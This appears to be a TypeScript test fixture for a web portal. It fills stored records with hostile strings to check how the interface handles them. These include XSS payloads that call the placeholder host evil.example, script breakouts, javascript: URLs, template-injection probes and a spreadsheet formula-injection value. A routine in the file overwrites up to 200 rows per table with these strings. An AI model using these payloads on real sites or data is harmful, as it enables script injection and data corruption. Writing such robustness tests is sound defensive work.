import type { Row, Storage } from '@server/storage/storage';
import type { FieldKind } from '@core/resource/field';
import type { Resource } from '@core/resource/resource';
import { resources, resourceTables, tableName } from './portal';

/** Where a script or a picture that ran would call home. */
const evilHost = 'evil.example';

/** Turns around what follows it, unless it is kept to itself. */
const override = '\u202eecalp rehtona\u2066';
export const hostileTexts: readonly string[] = [
  `<img src=x onerror="location='https://${evilHost}/'">`,
  `"><svg/onload=fetch('https://${evilHost}')>`,
  `</script><script>alert(1)</script>`,
  '{{7*7}}${7*7}$t(common:title)',
  `javascript:alert(1)`,
  override,
  'W'.repeat(10_000),
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(20),
  `Z${'\u0353\u0301'.repeat(60)}algo`,
  '=HYPERLINK("https://evil.example","click"),"\r\n@SUM(1)',
  'שלום עולם (123) مرحبا',
  '__proto__',
];
const pictures = [
  `javascript:alert(1)`,
  `http://${evilHost}/p.png`,
  'data:text/html,<script>alert(1)</script>',
  '//x',
];
const numbers = [1e300, -1e21, 9_007_199_254_740_991, 0.000001, -0, 123_456_789_012.345];
const texts: readonly FieldKind[] = [
  'text',
  'avatar',
  'status',
  'link',
  'phone',
  'date',
  'date-time',
  'month',
];

const hostileRow = ({ fields, idField }: Resource, columns: object, at: number): Row =>
  Object.fromEntries(
    Object.entries(fields).flatMap(([name, { kind }], place): [string, string | number][] => {
      if (!Object.hasOwn(columns, name) || kind === 'id' || name === idField) return [];
      const turn = at + place;
      if (name.includes('picture')) return [[name, pictures[turn % pictures.length] ?? '']];
      if (kind === 'trend') return [[name, JSON.stringify(numbers.concat(numbers))]];
      if (texts.includes(kind)) {
        // Days and states are what lists are ordered and narrowed by; every third of them is good.
        const keeps = (kind === 'date' || kind === 'month' || kind === 'status') && at % 3 === 0;
        return keeps ? [] : [[name, hostileTexts[turn % hostileTexts.length] ?? '']];
      }
      if (kind === 'boolean' || name.endsWith('_id')) return [];
      return [[name, numbers[turn % numbers.length] ?? 0]];
    }),
  );

/** Fills every column of text and figures of every resource; numbers that join records stay. Answers how many rows. */
export const poison = async (storage: Storage): Promise<number> => {
  const schemas = new Map(resourceTables(resources).map((schema) => [schema.name, schema]));
  let count = 0;
  for (const resource of resources) {
    const schema = schemas.get(tableName(resource));
    if (!schema) continue;
    const table = storage.table(schema.name);
    const rows = (await table.find([], 200)).entries();
    for (const [at, row] of rows) {
      const patch = hostileRow(resource, schema.columns, at);
      // One user, one name: what must be unique is made so.
      if (schema.name === 'users') patch['username'] = `${String(patch['username']).slice(0, 200)}${at}`;
      await table.update(
        [{ field: resource.idField, op: 'eq', value: row[resource.idField] ?? null }],
        patch,
      );
      count += 1;
    }
  }
  return count;
};
